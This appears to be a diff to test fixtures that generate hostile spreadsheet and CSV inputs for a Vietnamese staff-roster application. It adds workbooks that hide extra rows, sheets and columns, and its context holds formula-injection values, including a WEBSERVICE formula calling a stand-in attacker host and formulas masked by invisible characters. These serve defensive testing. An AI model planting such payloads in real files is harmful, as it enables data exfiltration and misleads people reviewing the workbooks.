@@ -13,7 +13,9 @@ from pathlib import Path
 from support import bombs
 from support.workbooks import (
     ROSTER_HEADERS,
+    SLIP_HEADERS,
     SlipPerson,
+    hide_in_workbook,
     replace_member,
     text_as_xlsx,
     write_slip_xlsx,
@@ -69,6 +71,7 @@ def rosters(d: Path) -> dict[str, Path]:
         "formula-behind-invisible.csv": _csv(d / "formula-behind-invisible.csv", HEADER, GOOD,
             *(f"HOS-{n},{lead}=1+1 Nguyễn,snv,Văn phòng,,,Đang công tác"
               for n, lead in enumerate(("\t", "   ", ZWSP, IDEO_SPACE, "\b"), start=20))),
+        **hidden_rosters(d),
         "not-a-name.csv": _csv(d / "not-a-name.csv", HEADER, GOOD,
                                "HOS-30,Nguyễn Văn 3,snv,Văn phòng,,,Đang công tác",
                                "HOS-31,Nguyễn <b>An</b>,snv,Văn phòng,,,Đang công tác"),
@@ -95,6 +98,28 @@ def rosters(d: Path) -> dict[str, Path]:
     return out
 
 
+ROSTER_ROWS = [list(ROSTER_HEADERS), GOOD.split(",")]
+EXTRA_ROW = ["HOS-66", "Lê Văn Ẩn", "snv", "Văn phòng", "", "", "Đang công tác"]
+
+
+def hidden_rosters(d: Path) -> dict[str, Path]:
+    """Rosters with what nobody reading the workbook sees (issue 12 §3)."""
+    def roster(name: str, **kw) -> Path:
+        return hide_in_workbook(write_xlsx(d / name, ROSTER_ROWS), **kw)
+
+    return {
+        "hidden-sheet.xlsx": roster("hidden-sheet.xlsx", sheet_first=True,
+                                    sheet_rows=[*ROSTER_ROWS, EXTRA_ROW]),
+        "very-hidden-sheet.xlsx": roster("very-hidden-sheet.xlsx", sheet_state="veryHidden",
+                                         sheet_rows=[["ghi chú"]]),
+        "hidden-row.xlsx": roster("hidden-row.xlsx", hidden_row=EXTRA_ROW),
+        "tiny-row.xlsx": roster("tiny-row.xlsx", hidden_row=EXTRA_ROW, tiny_row=True),
+        "hidden-column.xlsx": roster("hidden-column.xlsx",
+                                     hidden_column=["Mã đơn vị", "sgtvt"]),
+        "two-rosters.xlsx": roster("two-rosters.xlsx", second_visible=[*ROSTER_ROWS, EXTRA_ROW]),
+    }
+
+
 #: Staff a slip row must match (unit snv): see tests/e2e/test_hostile_input.py.
 SLIP_STAFF = ("Nguyễn Văn An", "Trần Văn Bình")
 
@@ -111,6 +136,16 @@ def excel_slips(d: Path) -> dict[str, Path]:
             SlipPerson("Nguyễn Văn An"), SlipPerson('=WEBSERVICE("http://evil.example")')]),
         "formula-address.xlsx": slip("formula-address.xlsx", [
             SlipPerson("Nguyễn Văn An", address="=1+1")]),
+        "hidden-row.xlsx": hide_in_workbook(
+            slip("hidden-row.xlsx", [SlipPerson("Nguyễn Văn An")]),
+            hidden_row=["2", "Trần Văn Bình", "Văn phòng", "0905000102", ""]),
+        "hidden-slip-sheet.xlsx": hide_in_workbook(
+            slip("hidden-slip-sheet.xlsx", [SlipPerson("Nguyễn Văn An")]), sheet_first=True,
+            sheet_rows=[["Nội dung yêu cầu: Hủy bỏ"], list(SLIP_HEADERS),
+                        ["1", "Trần Văn Bình", "", "", ""]]),
+        "two-slip-sheets.xlsx": hide_in_workbook(
+            slip("two-slip-sheets.xlsx", [SlipPerson("Nguyễn Văn An")]),
+            second_visible=[list(SLIP_HEADERS), ["1", "Trần Văn Bình", "", "", ""]]),
         "formula-behind-invisible.xlsx": slip("formula-behind-invisible.xlsx", [
             SlipPerson("Nguyễn Văn An"), SlipPerson(f"{IDEO_SPACE}{ZWSP}=1+1 Nguyễn")]),
         "long-cell.xlsx": slip("long-cell.xlsx", [SlipPerson(LONG)]),
